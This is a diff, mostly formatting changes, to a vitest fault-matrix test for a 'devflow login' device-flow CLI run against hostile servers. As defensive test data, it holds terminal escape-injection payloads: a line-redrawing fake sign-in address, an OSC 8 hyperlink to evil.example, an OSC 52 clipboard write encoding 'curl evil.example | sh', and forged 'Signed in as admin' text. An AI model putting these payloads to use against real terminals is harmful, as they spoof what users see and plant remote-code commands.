@@ -16,7 +16,21 @@
  * than a line break reaches stdout or stderr, and what was opened (a stand-in
  * xdg-open on PATH) and QR-encoded.
  */
-import { closeBeforeAnswer, drip, type Fault, type FaultServer, type Handler, hang, huge, json, redirect, reply, resetMidBody, seq, startFaultServer } from "@devflow/dev-server/faults"
+import {
+  closeBeforeAnswer,
+  drip,
+  type Fault,
+  type FaultServer,
+  type Handler,
+  hang,
+  huge,
+  json,
+  redirect,
+  reply,
+  resetMidBody,
+  seq,
+  startFaultServer
+} from "@devflow/dev-server/faults"
 import * as fs from "node:fs"
 import * as path from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
@@ -31,12 +45,21 @@ const DEVICE = "/device/auth"
 const TOKEN = "/token"
 
 const jwt = (claims: Readonly<Record<string, unknown>>) =>
-  `${Buffer.from(JSON.stringify({ alg: "none" })).toString("base64url")}.${Buffer.from(JSON.stringify(claims)).toString("base64url")}.c2ln`
+  `${Buffer.from(JSON.stringify({ alg: "none" })).toString("base64url")}.${
+    Buffer.from(JSON.stringify(claims)).toString("base64url")
+  }.c2ln`
 
 const metadata: Handler = ({ origin }) =>
   json({ issuer: origin, device_authorization_endpoint: `${origin}${DEVICE}`, token_endpoint: `${origin}${TOKEN}` })
 const code = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) =>
-  json({ device_code: "dc-faults", user_code: "BCDF-GHJK", verification_uri: `${origin}/device`, expires_in: 60, interval: 1, ...fields })
+  json({
+    device_code: "dc-faults",
+    user_code: "BCDF-GHJK",
+    verification_uri: `${origin}/device`,
+    expires_in: 60,
+    interval: 1,
+    ...fields
+  })
 const tokenBody = (origin: string, fields: Readonly<Record<string, unknown>> = {}) => ({
   access_token: "at-faults",
   token_type: "Bearer",
@@ -45,7 +68,8 @@ const tokenBody = (origin: string, fields: Readonly<Record<string, unknown>> = {
   id_token: jwt({ iss: origin, sub: "fault-user", aud: "devflow-faults" }),
   ...fields
 })
-const tokens = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) => json(tokenBody(origin, fields))
+const tokens = (fields: Readonly<Record<string, unknown>> = {}): Handler => ({ origin }) =>
+  json(tokenBody(origin, fields))
 const once = (fault: Fault | Handler, then: Handler = tokens()): Handler => seq(fault, then)
 const html = "<!DOCTYPE html><html><body>Maintenance</body></html>"
 const ESC = "\x1b"
@@ -79,18 +103,32 @@ interface Row {
 }
 
 const rows: ReadonlyArray<Row> = [
-  { fault: "none (baseline)", where: "both", script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens() }), exit: 0, seconds: 1 },
+  {
+    fault: "none (baseline)",
+    where: "both",
+    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: tokens() }),
+    exit: 0,
+    seconds: 1
+  },
   {
     fault: "HTTP 503 once",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: once(reply(html, "text/html", { status: 503 })) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: once(reply(html, "text/html", { status: 503 }))
+    }),
     exit: 0,
     seconds: 3
   },
   {
     fault: "HTTP 500, Retry-After: 4, once",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: once(reply("", "text/plain", { status: 500, headers: { "retry-after": "4" } })) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: once(reply("", "text/plain", { status: 500, headers: { "retry-after": "4" } }))
+    }),
     exit: 0,
     seconds: 5
   },
@@ -108,7 +146,11 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "connection reset mid-body, once",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: once(({ origin }) => resetMidBody(JSON.stringify(tokenBody(origin)))) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: once(({ origin }) => resetMidBody(JSON.stringify(tokenBody(origin))))
+    }),
     exit: 0,
     seconds: 3
   },
@@ -140,7 +182,14 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "metadata naming another issuer",
     where: "discovery",
-    script: () => ({ [WELL_KNOWN]: () => json({ issuer: "https://idp.example", device_authorization_endpoint: "https://idp.example/d", token_endpoint: "https://idp.example/t" }) }),
+    script: () => ({
+      [WELL_KNOWN]: () =>
+        json({
+          issuer: "https://idp.example",
+          device_authorization_endpoint: "https://idp.example/d",
+          token_endpoint: "https://idp.example/t"
+        })
+    }),
     exit: 6,
     seconds: 0
   },
@@ -165,14 +214,22 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "truncated JSON",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: ({ origin }) => json(JSON.stringify(tokenBody(origin)).slice(0, 50)) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: ({ origin }) => json(JSON.stringify(tokenBody(origin)).slice(0, 50))
+    }),
     exit: 6,
     seconds: 1
   },
   {
     fault: "10 MiB body, chunked",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: () => huge(10 * 1_048_576, { contentLength: false }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: () => huge(10 * 1_048_576, { contentLength: false })
+    }),
     exit: 6,
     seconds: 1
   },
@@ -188,7 +245,17 @@ const rows: ReadonlyArray<Row> = [
     where: "both",
     script: () => ({
       [WELL_KNOWN]: metadata,
-      [DEVICE]: ({ origin }) => reply(JSON.stringify({ device_code: "dc", user_code: "BCDF-GHJK", verification_uri: `${origin}/device`, expires_in: 60, interval: 1 }), "text/plain"),
+      [DEVICE]: ({ origin }) =>
+        reply(
+          JSON.stringify({
+            device_code: "dc",
+            user_code: "BCDF-GHJK",
+            verification_uri: `${origin}/device`,
+            expires_in: 60,
+            interval: 1
+          }),
+          "text/plain"
+        ),
       [TOKEN]: ({ origin }) => reply(JSON.stringify(tokenBody(origin)), "text/plain")
     }),
     exit: 0,
@@ -218,7 +285,11 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "expires_in 2 s, never approved",
     where: "both",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ expires_in: 2 }), [TOKEN]: () => json({ error: "authorization_pending" }, { status: 400 }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ expires_in: 2 }),
+      [TOKEN]: () => json({ error: "authorization_pending" }, { status: 400 })
+    }),
     exit: 4,
     seconds: 1
   },
@@ -226,7 +297,11 @@ const rows: ReadonlyArray<Row> = [
     // RFC 8628 §3.5: the interval only grows; 1e306 s is Infinity ms, which once became the 5 s default
     fault: "slow_down with interval 1e306",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: () => json({ error: "slow_down", interval: 1e306 }, { status: 400 }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: () => json({ error: "slow_down", interval: 1e306 }, { status: 400 })
+    }),
     exit: 4,
     seconds: 1,
     polls: [1]
@@ -234,7 +309,11 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "access_denied",
     where: "token endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code(), [TOKEN]: () => json({ error: "access_denied" }, { status: 400 }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code(),
+      [TOKEN]: () => json({ error: "access_denied" }, { status: 400 })
+    }),
     exit: 3,
     seconds: 1
   },
@@ -262,7 +341,10 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "verification_uri that erases the line and draws another address",
     where: "device endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ verification_uri: redraw(`  To sign in, open ${EVIL}`) }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ verification_uri: redraw(`  To sign in, open ${EVIL}`) })
+    }),
     exit: 6,
     seconds: 0,
     check: ({ run }) => {
@@ -273,7 +355,10 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "user_code carrying an OSC 8 hyperlink",
     where: "device endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ user_code: `${ESC}]8;;https://evil.example/${ESC}\\BCDF-GHJK${ESC}]8;;${ESC}\\` }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ user_code: `${ESC}]8;;https://evil.example/${ESC}\\BCDF-GHJK${ESC}]8;;${ESC}\\` })
+    }),
     exit: 6,
     seconds: 0,
     check: ({ run }) => expect(run.stderr).toMatch(/user_code/)
@@ -281,7 +366,10 @@ const rows: ReadonlyArray<Row> = [
   {
     fault: "user_code carrying an OSC 52 clipboard write",
     where: "device endpoint",
-    script: () => ({ [WELL_KNOWN]: metadata, [DEVICE]: code({ user_code: `BCDF-GHJK${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07` }) }),
+    script: () => ({
+      [WELL_KNOWN]: metadata,
+      [DEVICE]: code({ user_code: `BCDF-GHJK${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07` })
+    }),
     exit: 6,
     seconds: 0,
     check: ({ run }) => expect(run.stderr + run.stdout).not.toMatch(/Y3VybC/)
@@ -292,7 +380,10 @@ const rows: ReadonlyArray<Row> = [
     script: () => ({
       [WELL_KNOWN]: metadata,
       [DEVICE]: code(),
-      [TOKEN]: () => json({ error: "access_denied", error_description: `Denied.${redraw("Signed in as admin")}\u009b32m` }, { status: 400 })
+      [TOKEN]: () =>
+        json({ error: "access_denied", error_description: `Denied.${redraw("Signed in as admin")}\u009b32m` }, {
+          status: 400
+        })
     }),
     exit: 3,
     seconds: 1,
@@ -304,7 +395,17 @@ const rows: ReadonlyArray<Row> = [
     script: () => ({
       [WELL_KNOWN]: metadata,
       [DEVICE]: code(),
-      [TOKEN]: ({ origin }) => json(tokenBody(origin, { id_token: jwt({ iss: origin, sub: "fault-user", aud: "devflow-faults", name: `${redraw("Signed in as admin")}\u009b31m` }) }))
+      [TOKEN]: ({ origin }) =>
+        json(
+          tokenBody(origin, {
+            id_token: jwt({
+              iss: origin,
+              sub: "fault-user",
+              aud: "devflow-faults",
+              name: `${redraw("Signed in as admin")}\u009b31m`
+            })
+          })
+        )
     }),
     exit: 0,
     seconds: 1,
@@ -426,7 +527,9 @@ let results: Promise<ReadonlyArray<Result | undefined>>
 
 const runRow = async (row: Row): Promise<Result> => {
   const other = await startFaultServer({})
-  const server: FaultServer | undefined = row.refused === true ? undefined : await startFaultServer(row.script(other.origin))
+  const server: FaultServer | undefined = row.refused === true
+    ? undefined
+    : await startFaultServer(row.script(other.origin))
   const dir = tempDir("devflow-cli-faults-")
   const tools = tempDir("devflow-cli-faults-tools-")
   try {
@@ -434,10 +537,22 @@ const runRow = async (row: Row): Promise<Result> => {
     const env = {
       // no colour and an unknown background, as on any pipe
       COLORFGBG: undefined,
-      ...(row.opener === undefined ? {} : { PATH: `${fakeOpener(tools, row.opener)}${path.delimiter}${process.env.PATH}` })
+      ...(row.opener === undefined
+        ? {}
+        : { PATH: `${fakeOpener(tools, row.opener)}${path.delimiter}${process.env.PATH}` })
     }
     const flags = row.flags ?? ["--no-qr"]
-    const run = await devflow(["login", "--issuer", issuer, "--client-id", "devflow-faults", ...flags, "--json", "--cache-dir", dir], { env })
+    const run = await devflow([
+      "login",
+      "--issuer",
+      issuer,
+      "--client-id",
+      "devflow-faults",
+      ...flags,
+      "--json",
+      "--cache-dir",
+      dir
+    ], { env })
     const exitedAt = Date.now()
     const first = server?.hits[0]?.at
     const device = server?.hits.find((h) => h.path === DEVICE)?.at ?? 0
@@ -445,7 +560,15 @@ const runRow = async (row: Row): Promise<Result> => {
     const opened = row.opener === undefined ? undefined : await openedIn(tools)
     const then: Array<Run> = []
     for (const args of row.then ?? []) then.push(await devflow([...args, "--cache-dir", dir], { env }))
-    return { run, otherHits: other.hits.length, protocolMs: first === undefined ? run.ms : exitedAt - first, origin: issuer, opened, then, polls }
+    return {
+      run,
+      otherHits: other.hits.length,
+      protocolMs: first === undefined ? run.ms : exitedAt - first,
+      origin: issuer,
+      opened,
+      then,
+      polls
+    }
   } finally {
     fs.rmSync(tools, { recursive: true, force: true })
     await server?.close()
@@ -467,7 +590,9 @@ const pool = async <A>(n: number, jobs: ReadonlyArray<() => Promise<A>>): Promis
 }
 
 // the stand-in opener is an xdg-open
-const runs = rows.map((row) => (row.slow !== true || FULL) && (row.opener === undefined || process.platform === "linux"))
+const runs = rows.map((row) =>
+  (row.slow !== true || FULL) && (row.opener === undefined || process.platform === "linux")
+)
 
 beforeAll(() => {
   results = pool(4, rows.map((row, i) => () => (runs[i] ? runRow(row) : Promise.resolve(undefined))))
@@ -487,47 +612,55 @@ afterAll(async () => {
     } catch {
       // not JSON
     }
-    return `| ${i + 1} | ${row.fault} | ${row.where} | ${outcome} | ${(r.run.ms / 1000).toFixed(2)} s / ${(r.protocolMs / 1000).toFixed(2)} s | ${row.seconds}–${row.seconds + SLACK_S} s |`
+    return `| ${i + 1} | ${row.fault} | ${row.where} | ${outcome} | ${(r.run.ms / 1000).toFixed(2)} s / ${
+      (r.protocolMs / 1000).toFixed(2)
+    } s | ${row.seconds}–${row.seconds + SLACK_S} s |`
   })
   console.info(
-    `[faults] CLI: ${rows.length} faults through \`devflow login --json\`\n| # | fault | where | outcome | time (process / from its first request) | expected |\n|---|---|---|---|---|---|\n${lines.join("\n")}`
+    `[faults] CLI: ${rows.length} faults through \`devflow login --json\`\n| # | fault | where | outcome | time (process / from its first request) | expected |\n|---|---|---|---|---|---|\n${
+      lines.join("\n")
+    }`
   )
 })
 
 describe("CLI fault matrix: devflow login against hostile servers", () => {
   rows.forEach((row, i) => {
     const test = runs[i] ? it : it.skip
-    test(`${i + 1}. ${row.fault} (${row.where}) → exit ${row.exit} in ${row.seconds} s`, { timeout: 240_000 }, async () => {
-      const result = (await results)[i]!
-      const { otherHits, polls, protocolMs, run } = result
-      expect(run.signal, run.stderr).toBeNull()
-      for (const output of [run, ...result.then]) {
-        // nor escaped inside a JSON line, where a reader of the value would print it
-        expect(output.stdout, output.stderr).not.toMatch(/\\u00(?:[01][0-9a-f]|7f|[89][0-9a-f])/i)
-        expect(output.stdout + output.stderr).not.toMatch(CONTROL)
+    test(
+      `${i + 1}. ${row.fault} (${row.where}) → exit ${row.exit} in ${row.seconds} s`,
+      { timeout: 240_000 },
+      async () => {
+        const result = (await results)[i]!
+        const { otherHits, polls, protocolMs, run } = result
+        expect(run.signal, run.stderr).toBeNull()
+        for (const output of [run, ...result.then]) {
+          // nor escaped inside a JSON line, where a reader of the value would print it
+          expect(output.stdout, output.stderr).not.toMatch(/\\u00(?:[01][0-9a-f]|7f|[89][0-9a-f])/i)
+          expect(output.stdout + output.stderr).not.toMatch(CONTROL)
+        }
+        row.check?.(result)
+        expect(run.code, run.stderr).toBe(row.exit)
+        expect(run.ms, run.stderr).toBeGreaterThanOrEqual((row.seconds + STARTUP_S) * 1000 - 100)
+        expect(protocolMs, run.stderr).toBeLessThanOrEqual((row.seconds + SLACK_S) * 1000)
+        expect(run.stderr + run.stdout).not.toMatch(STACK)
+        expect(otherHits).toBe(0)
+        if (row.polls !== undefined) {
+          expect(polls.length, `polls at ${polls.join(", ")} s`).toBe(row.polls.length)
+          // never early; a second late only on a loaded machine
+          polls.forEach((at, k) => expect(at).toBeGreaterThanOrEqual(row.polls![k]! - 0.05))
+        }
+        const events = run.stdout.trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>)
+        if (row.exit === 0) {
+          expect(events.at(-1)).toMatchObject({ event: "result" })
+          return
+        }
+        expect(events.at(-1)).toMatchObject({ event: "error", exit_code: row.exit })
+        // one error line, at most one hint, at the end of stderr (the prompt may come first)
+        const failure = run.stderr.slice(run.stderr.lastIndexOf("devflow: ")).trimEnd().split("\n")
+        expect(failure.length, run.stderr).toBeLessThanOrEqual(2)
+        if (failure.length === 2) expect(failure[1]).toMatch(/^ {2}hint: /)
+        expect(run.stderr).not.toMatch(/internal error/)
       }
-      row.check?.(result)
-      expect(run.code, run.stderr).toBe(row.exit)
-      expect(run.ms, run.stderr).toBeGreaterThanOrEqual((row.seconds + STARTUP_S) * 1000 - 100)
-      expect(protocolMs, run.stderr).toBeLessThanOrEqual((row.seconds + SLACK_S) * 1000)
-      expect(run.stderr + run.stdout).not.toMatch(STACK)
-      expect(otherHits).toBe(0)
-      if (row.polls !== undefined) {
-        expect(polls.length, `polls at ${polls.join(", ")} s`).toBe(row.polls.length)
-        // never early; a second late only on a loaded machine
-        polls.forEach((at, k) => expect(at).toBeGreaterThanOrEqual(row.polls![k]! - 0.05))
-      }
-      const events = run.stdout.trim().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>)
-      if (row.exit === 0) {
-        expect(events.at(-1)).toMatchObject({ event: "result" })
-        return
-      }
-      expect(events.at(-1)).toMatchObject({ event: "error", exit_code: row.exit })
-      // one error line, at most one hint, at the end of stderr (the prompt may come first)
-      const failure = run.stderr.slice(run.stderr.lastIndexOf("devflow: ")).trimEnd().split("\n")
-      expect(failure.length, run.stderr).toBeLessThanOrEqual(2)
-      if (failure.length === 2) expect(failure[1]).toMatch(/^ {2}hint: /)
-      expect(run.stderr).not.toMatch(/internal error/)
-    })
+    )
   })
 })
